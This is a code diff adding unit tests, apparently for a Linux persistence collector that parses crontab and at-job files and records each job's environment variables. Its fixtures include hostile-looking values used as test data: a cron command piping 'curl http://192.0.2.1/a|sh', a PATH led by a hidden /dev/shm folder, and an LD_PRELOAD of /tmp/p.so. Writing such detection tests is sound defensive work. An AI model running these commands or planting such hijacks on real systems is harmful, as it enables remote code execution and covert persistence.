@@ -46,6 +46,33 @@ describe('linux.crontab', () => {
     ]);
   });
 
+  test('gives each job the variables above it, as they stand', async () => {
+    const { entries } = await gatherFrom(crontab, {
+      '/etc/cron.d/a':
+        'A=1\n* * * * * root a\nB="$A/x"\nA=2\n* * * * * root b\n* * * * * root c\nHOME=/srv/h\n* * * * * root d\n',
+    });
+    const given = entries.map(({ environment = [] }) =>
+      environment.map(({ name, value }) => `${name}=${value}`).join(' '),
+    );
+    expect(given).toEqual(['A=1', 'B=$A/x A=2', 'B=$A/x A=2', 'B=$A/x A=2 HOME=/srv/h PWD=/srv/h']);
+  });
+
+  test('a PATH that begins elsewhere than with the folders of the system is told', async () => {
+    const { entries } = await gatherFrom(crontab, {
+      '/etc/cron.d/a': 'PATH=/usr/local/bin:/usr/bin:/bin\nPATH=/dev/shm/.x:/usr/bin\n* * * * * root kw\n',
+    });
+    expect(entries.map(({ command }) => String(command))).toEqual(['kw', 'PATH=/dev/shm/.x:/usr/bin']);
+  });
+
+  test('variables without number are kept to a bound, the newest', async () => {
+    const lines = Array.from({ length: 9000 }, (_, at) => `V${at}=${at}\n* * * * * root a`).join('\n');
+    const { entries } = await gatherFrom(crontab, {
+      '/etc/cron.d/a': `${lines}\nW=${'x'.repeat(20_000)}\n@daily root b\n`,
+    });
+    const last = entries.at(-1)?.environment ?? [];
+    expect([entries.length, last.length, last.at(-1)?.name]).toEqual([9001, 256, 'V8999']);
+  });
+
   test('hands on what the command reads behind a percent sign', async () => {
     const { entries } = await gatherFrom(crontab, {
       '/etc/cron.d/a': '* * * * * root sh%curl http://192.0.2.1/a|sh',
@@ -177,6 +204,21 @@ describe('linux.at', () => {
         body: [{ line: 8, text: '/tmp/x' }],
         text: '/tmp/x',
       },
+    ]);
+  });
+
+  test('gives its variables and its folder to what it runs', async () => {
+    const { entries } = await gatherFrom(atJobs, {
+      '/var/spool/at/x': job.replace(
+        'umask 22\n',
+        'umask 22\nX=/tmp/.x; export X\nLD_PRELOAD=/tmp/p.so; export LD_PRELOAD\n',
+      ),
+    });
+    expect(entries.map(({ command }) => String(command))).toEqual(['', 'LD_PRELOAD=/tmp/p.so']);
+    expect(entries[0]?.environment?.map(({ name, value }) => `${name}=${value}`)).toEqual([
+      'X=/tmp/.x',
+      'LD_PRELOAD=/tmp/p.so',
+      'PWD=/x',
     ]);
   });
 
